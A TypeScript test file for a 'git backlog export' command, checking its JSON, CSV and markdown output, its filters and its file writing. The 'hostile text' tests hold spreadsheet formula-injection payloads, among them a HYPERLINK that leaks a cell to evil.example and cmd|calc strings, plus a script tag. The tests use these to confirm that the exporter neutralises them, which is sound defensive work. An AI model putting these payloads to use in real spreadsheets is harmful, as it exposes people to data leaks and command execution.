/**
 * `git backlog export` over real repositories: the example backlog in each format (JSON read back into the same files,
 * CSV read back by an RFC 4180 reader written here, the markdown report), hostile titles, the selection flags shared
 * with list, output to a file, and a repository left exactly as found.
 */

import { cpSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { serializeItem } from '../../src/core/codec.js'
import { FIELD_ORDER, itemSchema } from '../../src/core/fields.js'
import { withItemShape } from '../../src/core/item.js'
import { runBin, runInProcess } from '../helpers/cli.js'
import { type TempRepo, tempRepo } from '../helpers/repo.js'

const EXAMPLE = join(import.meta.dirname, '..', '..', '.backlog.example')

/** A repository whose one commit holds the example backlog. */
function exampleRepo(): TempRepo {
  const repo = tempRepo()
  cpSync(EXAMPLE, join(repo.dir, '.backlog'), { recursive: true })
  repo.git('add', '-A')
  repo.git('commit', '-q', '-m', 'example backlog')
  return repo
}

async function exported(dir: string, ...args: string[]): Promise<string> {
  const outcome = await runInProcess(dir, ['export', ...args])
  expect(outcome.stderr).toBe('')
  expect(outcome.code).toBe(0)
  return outcome.stdout
}

interface Exported {
  items: Array<Record<string, unknown> & { id: string; path: string; title: string; status: string }>
}

/**
 * Records of an RFC 4180 text, read the plain way the RFC describes (not by the code under test): fields split by
 * commas, records by CRLF, a quoted field running to its closing quote with `""` as one quote inside.
 */
function readCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let at = 0
  while (at < text.length) {
    if (text[at] === '"' && field === '') {
      at++
      for (;;) {
        const quote = text.indexOf('"', at)
        if (quote < 0) throw new Error('a quoted field never closes')
        field += text.slice(at, quote)
        if (text[quote + 1] === '"') {
          field += '"'
          at = quote + 2
        } else {
          at = quote + 1
          break
        }
      }
      if (at < text.length && text[at] !== ',' && text[at] !== '\r') throw new Error(`text after a quote at ${at}`)
    } else if (text[at] === ',') {
      record.push(field)
      field = ''
      at++
    } else if (text.startsWith('\r\n', at)) {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      at += 2
    } else {
      if (text[at] === '"' || text[at] === '\n' || text[at] === '\r') throw new Error(`bare ${text[at]} at ${at}`)
      field += text[at]
      at++
    }
  }
  if (field !== '' || record.length) throw new Error('the last record has no CRLF')
  return records
}

/** The rows of a CSV export as objects keyed by the header. */
function csvRows(text: string): Array<Record<string, string>> {
  const [header, ...rows] = readCsv(text)
  return rows.map((row) => {
    expect(row).toHaveLength((header as string[]).length)
    return Object.fromEntries((header as string[]).map((name, index) => [name, row[index] as string]))
  })
}

/** What export must never change: the working tree's status, every ref, the index and the repository's config. */
function gitState(repo: TempRepo) {
  return {
    index: statSync(join(repo.dir, '.git', 'index')).mtimeMs,
    status: repo.git('--no-optional-locks', 'status', '--porcelain', '--untracked-files=all'),
    refs: repo.git('for-each-ref', '--format=%(refname) %(objectname)'),
    config: repo.read('.git/config'),
  }
}

describe('git backlog export, on the example backlog', () => {
  it('writes JSON that reads back into the very files, every item with its keys in file order', async () => {
    const repo = exampleRepo()
    const { items } = JSON.parse(await exported(repo.dir, '--all', '--archived')) as Exported
    expect(items.map((item) => item.id).sort()).toEqual([
      'bl-7q0zht',
      'bl-a7h3pk',
      'bl-ad5r0t',
      'bl-dcs0f7',
      'bl-f1aky9',
      'bl-k3m9x2',
      'bl-m1e5t0',
      'bl-r3cv0k',
      'bl-wd4f1n',
    ])
    const order = [...FIELD_ORDER, 'attributes', 'description', 'path', 'archived', 'updated']
    for (const { path, archived, updated, ...fields } of items) {
      const keys = Object.keys({ ...fields, path, archived, updated })
      expect(keys, fields.id).toEqual(order.filter((key) => keys.includes(key)))
      expect(updated).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/)
      const item = withItemShape(itemSchema.parse(fields))
      expect(serializeItem(item), fields.id).toBe(repo.read(path))
    }
    // Notes keep their schema's key order (at, by, text) whatever the file had.
    const noted = items.find((item) => item.id === 'bl-7q0zht') as unknown as { notes: object[] }
    expect(Object.keys(noted.notes[0] as object)).toEqual(['at', 'by', 'text'])
  })

  it('writes CSV a spreadsheet reads: a header, a row per item, lists joined, notes counted, attributes as columns', async () => {
    const repo = exampleRepo()
    const text = await exported(repo.dir, '--format', 'csv', '--all')
    const header = readCsv(text)[0] as string[]
    expect(header.slice(0, 6)).toEqual(['id', 'title', 'type', 'status', 'priority', 'assignee'])
    expect(header).toEqual(expect.arrayContaining(['notes', 'last_note', 'estimate', 'component']))
    expect(header.at(-1)).toBe('description')
    const rows = csvRows(text)
    expect(rows).toHaveLength(9)
    const endpoint = rows.find((row) => row.id === 'bl-7q0zht') as Record<string, string>
    expect(endpoint).toMatchObject({
      title: 'Registration ceremony endpoint',
      status: 'in_progress',
      tags: 'auth, api',
      depends_on: 'bl-k3m9x2',
      notes: '1',
      last_note: '2026-11-13T09:15:00Z claude: Challenge kept server-side for 5 minutes; replay test added.',
      archived: 'false',
      path: '.backlog/tasks/t/bl-7q0zht.md',
    })
    expect(endpoint.description).toBe(
      '`POST /auth/passkeys/register` returns creation options, then verifies the attestation.',
    )
    const flaky = rows.find((row) => row.id === 'bl-f1aky9') as Record<string, string>
    expect([flaky.estimate, flaky.component, flaky.title]).toEqual(['1', 'session', 'Flaky test: session expiry'])
    const epic = rows.find((row) => row.id === 'bl-a7h3pk') as Record<string, string>
    expect(epic.references).toBe('WebAuthn Level 3 <https://www.w3.org/TR/webauthn-3/>')
  })

  it('writes a markdown report grouped by status in workflow order, with a line of counts', async () => {
    const repo = exampleRepo()
    const text = await exported(repo.dir, '--format', 'markdown', '--all')
    expect(text.split('\n').slice(0, 3)).toEqual([
      '# Backlog',
      '',
      '9 items: 4 open · 2 in_progress · 1 blocked · 2 done',
    ])
    const headings = text.split('\n').filter((line) => line.startsWith('## '))
    expect(headings).toEqual(['## open (4)', '## in_progress (2)', '## blocked (1)', '## done (2)'])
    expect(text).toContain(
      '| `bl-7q0zht` | Registration ceremony endpoint | high | claude | auth, api |  | `bl-a7h3pk` |',
    )
    expect(text).toContain('| `bl-m1e5t0` | Public beta |  |  |  | 2027-01-15 |  |')
  })

  it('selects as list does: the active items by default, filter words, --all, --archived', async () => {
    const repo = exampleRepo()
    const ids = async (...args: string[]) =>
      (JSON.parse(await exported(repo.dir, ...args)) as Exported).items.map((item) => item.id)
    const listed = JSON.parse((await runInProcess(repo.dir, ['list', '--json'])).stdout) as Exported
    expect(await ids()).toEqual(listed.items.map((item) => item.id))
    expect(await ids('+auth', '-BLOCKED', '--all', '--sort', 'id')).toEqual([
      'bl-7q0zht',
      'bl-a7h3pk',
      'bl-ad5r0t',
      'bl-k3m9x2',
    ])
    expect(await ids('-s', 'done')).toEqual(['bl-k3m9x2', 'bl-ad5r0t'])
    expect((await runInProcess(repo.dir, ['archive', 'bl-k3m9x2'])).code).toBe(0)
    expect(await ids('-s', 'done')).toEqual(['bl-ad5r0t'])
    const archived = JSON.parse(await exported(repo.dir, '-s', 'done', '--archived', '--sort', 'id')) as Exported
    expect(archived.items.map((item) => [item.id, item.archived])).toEqual([
      ['bl-ad5r0t', false],
      ['bl-k3m9x2', true],
    ])
    expect(await exported(repo.dir, '--format', 'markdown', 'assignee:nobody')).toBe('# Backlog\n\nNo items.\n')
  })

  it('writes to a file with -o, the same bytes as standard output, and nothing else anywhere', async () => {
    const repo = exampleRepo()
    const before = gitState(repo)
    const stdout = await exported(repo.dir, '--format', 'csv', '--all')
    const outcome = await runInProcess(repo.dir, ['export', '--format', 'csv', '--all', '--bom', '-o', '../out.csv'])
    expect(outcome).toEqual({ code: 0, stdout: '', stderr: '' })
    const file = readFileSync(join(repo.dir, '..', 'out.csv'), 'utf8')
    expect(file).toBe(`\ufeff${stdout}`)
    for (const format of ['json', 'markdown']) await exported(repo.dir, '--format', format, '--all', '--archived')
    expect(gitState(repo)).toEqual(before)
    expect(repo.git('rev-list', '--count', 'HEAD').trim()).toBe('2')
  })

  it('refuses a format it does not know, --bom outside CSV and a file it cannot write', async () => {
    const repo = exampleRepo()
    const bogus = await runInProcess(repo.dir, ['export', '--format', 'xml'])
    expect(bogus.code).toBe(1)
    expect(bogus.stderr).toMatch(/argument 'xml' is invalid. Allowed choices are json, csv, markdown/)
    expect(await runInProcess(repo.dir, ['export', '--bom'])).toEqual({
      code: 1,
      stdout: '',
      stderr: 'error: --bom is for --format csv\n',
    })
    const nowhere = await runInProcess(repo.dir, ['export', '-o', 'no/such/folder/x.json'])
    expect(nowhere).toEqual({
      code: 1,
      stdout: '',
      stderr: 'error: --output no/such/folder/x.json: cannot write it (ENOENT)\n',
    })
  })
})

describe('git backlog export, with hostile text', () => {
  const TITLES = [
    'Commas, "quotes" and more, in one title',
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'Pipes | in a | table <script>alert(1)</script> `code` *bold* [link](http://x)',
    '# not a heading',
    'ping @team',
  ]

  async function hostileRepo(): Promise<TempRepo> {
    const repo = tempRepo()
    const batch = TITLES.map((title, index) => ({
      title,
      tags: index === 0 ? ['a,b'] : ['=cmd'],
      description: `Line one, "quoted"\nline two\n=1+1\n`,
      evidence: ['one, with a comma', '-starts with a dash'],
      attributes: { formula: '=2+2', number: -3 },
    }))
    const added = await runInProcess(repo.dir, ['add', '--json-items', '-'], {}, { input: JSON.stringify(batch) })
    expect(added.stderr).toBe('')
    return repo
  }

  it('quotes CSV cells per RFC 4180 and puts a quote before anything a spreadsheet would run', async () => {
    const repo = await hostileRepo()
    const text = await exported(repo.dir, '--format', 'csv', '--sort', 'title')
    const rows = csvRows(text)
    expect(rows.map((row) => row.title).sort()).toEqual(
      TITLES.map((title) => (/^[=+\-@]/.test(title) ? `'${title}` : title)).sort(),
    )
    for (const row of rows) {
      expect(row.description).toBe(`Line one, "quoted"\nline two\n=1+1`)
      expect(row.evidence).toBe('one, with a comma\n-starts with a dash')
      expect(row.formula).toBe("'=2+2")
      expect(row.number).toBe('-3')
    }
    expect(rows.find((row) => row.title === TITLES[0])?.tags).toBe('a,b')
    expect(rows.find((row) => row.title === 'ping @team')?.tags).toBe("'=cmd")
    // No cell but a number (the YAML number -3, which no spreadsheet runs) begins with a formula character.
    const cells = readCsv(text).flat()
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual(Array(TITLES.length).fill('-3'))
  })

  it('escapes the markdown report as the review does: a row stays a row, no tag, no mention, no heading', async () => {
    const repo = await hostileRepo()
    const text = await exported(repo.dir, '--format', 'markdown')
    const rows = text.split('\n').filter((line) => line.startsWith('| `'))
    expect(rows).toHaveLength(TITLES.length)
    for (const row of rows) expect(row.split(/(?<!\\)\|/)).toHaveLength(9)
    expect(text).not.toContain('<script>')
    expect(text).toContain('&lt;script&gt;')
    expect(text).toContain('\\`code\\` \\*bold\\* \\[link\\](http://x)')
    expect(text).toContain('| \\# not a heading |')
    expect(text).toContain('ping @\u200bteam')
  })

  it('gives the same items back from JSON, whatever their text', async () => {
    const repo = await hostileRepo()
    const { items } = JSON.parse(await exported(repo.dir)) as Exported
    expect(items.map((item) => item.title).sort()).toEqual([...TITLES].sort())
    for (const { path, archived: _a, updated: _u, ...fields } of items) {
      expect(serializeItem(withItemShape(itemSchema.parse(fields)))).toBe(repo.read(path))
    }
  })
})

describe('git backlog export, through the built bin', () => {
  it('prints CSV with CRLF line ends, the last one too, and the markdown report', async () => {
    const repo = exampleRepo()
    const csv = await runBin(repo.dir, ['export', '--format', 'csv', 'status:blocked'])
    expect(csv.code).toBe(0)
    expect(csv.stdout.endsWith('\r\n')).toBe(true)
    expect(csvRows(csv.stdout).map((row) => row.id)).toEqual(['bl-r3cv0k'])
    const markdown = await runBin(repo.dir, ['export', '-f', 'markdown', '-BLOCKED'])
    // Blocked by its status (bl-r3cv0k) or by an open dependency (bl-wd4f1n): left out.
    expect(markdown.stdout).toContain('## open (3)')
    expect(markdown.stdout).not.toMatch(/bl-r3cv0k|bl-wd4f1n/)
  })
})
